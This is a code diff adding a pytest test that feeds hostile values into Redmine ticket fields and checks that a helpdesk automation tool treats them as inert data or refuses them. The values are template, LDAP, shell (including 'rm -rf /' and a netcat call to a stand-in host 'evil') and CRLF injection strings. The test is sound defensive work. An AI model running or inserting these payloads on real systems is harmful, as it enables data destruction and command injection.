@@ -178,3 +178,47 @@ def test_the_profiles_filters_go_to_redmine_and_only_known_ones(
                 {"cf_1": "a\nb"}, {"cf_1": ""}, {"status_id": "x" * 300}):
         with pytest.raises(ValidationError):
             WatchConfig.model_validate({"filters": bad})
+
+
+HOSTILE = {"template": "{{ 7 * 7 }}{% raw %}", "ldap": "jnovak)(uid=*))(|(uid=*",
+           "shell": "x; rm -rf / $(id) `id` | nc evil 1",
+           "control": "jnovak\r\nadminkit:R-1:0; forged",
+           "nul": "a\x00b", "huge": "A" * 1_000_000}
+
+
+def test_hostile_issue_fields_are_data_or_refused_with_a_short_clean_note(
+        fake: FlakyRedmine, env: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(SECRET_ENV, fake.secret)
+    p = Profile.model_validate({
+        "name": "acme",
+        "tickets": {"kind": "redmine", "url": fake.url, "token": f"env:{SECRET_ENV}",
+                    "queue": "helpdesk"},
+        "automation": {"approvers": ["Boss"], "rules": [
+            {"name": "unlock", "playbook": "unlock-account", "requires_approval": True,
+             "match": {"type": "Support", "subject": "^unlock"},
+             "fields": {"login": "Location"}, "requesters": ["*"]}]}})
+    fence = fake.add_issue("fence", at=T.format(0))
+    ids = {}
+    for n, (name, value) in enumerate(HOSTILE.items()):
+        ids[name] = fake.add_issue(f"unlock {name}", at=T.format(1 + n))
+        fake.issues[ids[name]]["custom_fields"][0]["value"] = value
+    system = Redmine(p)
+    w = Watcher(RunService(journal_path=env.journal, config_dir=env.config), p, system,
+                lambda n: PLAYBOOKS / f"{n}.yaml", after=str(fence))
+    try:
+        report = w.poll()
+        status = {o.key.split(":")[1]: o.status for o in report.outcomes}
+        triggers = {t.ticket: t for t in Triggers(w.journal).all()}
+    finally:
+        w.close()
+        system.close()
+    for name in ("template", "ldap", "shell"):  # one line: data, waiting for an approver
+        assert status[str(ids[name])] == "waiting", (name, status)
+        plan = triggers[f"redmine:{ids[name]}"].detail["plan"]
+        assert plan["inputs"] == {"login": HOSTILE[name]}  # as written, never rendered
+    for name in ("control", "nul", "huge"):
+        assert status[str(ids[name])] == "refused", (name, status)
+    for issue_id in ids.values():
+        for note in fake.notes_of(issue_id):
+            assert len(note["notes"]) < 2000 and "\r" not in note["notes"]
+            assert "\x00" not in note["notes"] and "\nadminkit:R-1" not in note["notes"]
